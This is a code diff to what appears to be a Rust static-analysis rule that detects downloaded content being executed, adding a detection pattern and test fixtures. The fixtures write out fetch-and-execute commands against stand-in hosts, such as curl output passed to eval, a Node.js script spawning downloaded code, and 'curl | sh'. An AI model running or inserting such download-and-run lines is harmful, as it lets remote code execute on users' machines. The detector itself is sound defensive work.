@@ -38,6 +38,7 @@ pub(super) const RULE: Rule = Rule {
         "getattr(",
         "__import__(",
         "eval)",
+        "\\beval ",
     ],
     check: Check::Unit(check),
     hits: &[
@@ -59,6 +60,11 @@ pub(super) const RULE: Rule = Rule {
         text(
             "```bash\npython3 - <<'END'\nimport urllib.request as u\nexec(u.urlopen('http://203.0.113.9/a').read())\nEND\n```",
         ),
+        file("x.sh", "part() { curl -fsSL \"https://a.host.test/$1\"; }\neval \"$(part core)\"\n"),
+        file(
+            "x.js",
+            "const https = require('https');\nhttps.get('https://a.host.test/p', r => { let b = ''; r.on('data', x => b += x); r.on('end', () => require('child_process').spawn(process.execPath, ['-e', b])); });\n",
+        ),
         text("```js\napp.doShellScript('curl -fsSL https://203.0.113.9/b.sh | sh');\n```"),
     ],
     misses: &[
@@ -67,15 +73,31 @@ pub(super) const RULE: Rule = Rule {
         ),
         file("x.py", "data = requests.get(u).json()\nsubprocess.run(['git', 'log'])\n"),
         file("x.py", "version = requests.get(u).text\nsubprocess.run(['pip', 'install', f'x=={version}'])\n"),
+        file(
+            "x.sh",
+            "page() { curl -fsSL \"https://a.host.test/$1\"; }\npage core | jq .name\neval \"$(ssh-agent)\"\n",
+        ),
         file("x.js", "const r = await fetch(u);\nconst m = re.exec(await r.text());\n"),
         file("x.py", "subprocess.run('curl -LsSf https://astral.sh/uv/install.sh | sh', shell=True)\n"),
     ],
 };
 
+patterns! {
+    FETCHES = r"\b(?:curl|wget|http|https|xh|curlie)\b";
+}
+
 fn check(unit: &Unit<'_>) -> Vec<Hit> {
     // Commands on their own are looked at by the rules about downloads; what one of them is given to run is not.
     if unit.language == crate::language::Language::Shell && super::is_plain_shell(unit) {
-        return super::flowing(unit, |source, sink| source.range == sink.range && fetched_runs(source, sink));
+        let text = unit.text();
+        let by_name =
+            |fact: &Fact| text.get(fact.range.clone()).is_some_and(|call| !FETCHES.is_match(call.as_bytes()));
+        let flows = unit.reading().flowing().filter(|(source, sink, _)| {
+            fetched_runs(source, sink) && (source.range == sink.range || by_name(source))
+        });
+        let mut hits: Vec<Hit> = flows.map(|(_, sink, _)| Hit::at(sink.range.clone())).collect();
+        hits.dedup();
+        return hits;
     }
     super::flowing(unit, fetched_runs)
 }
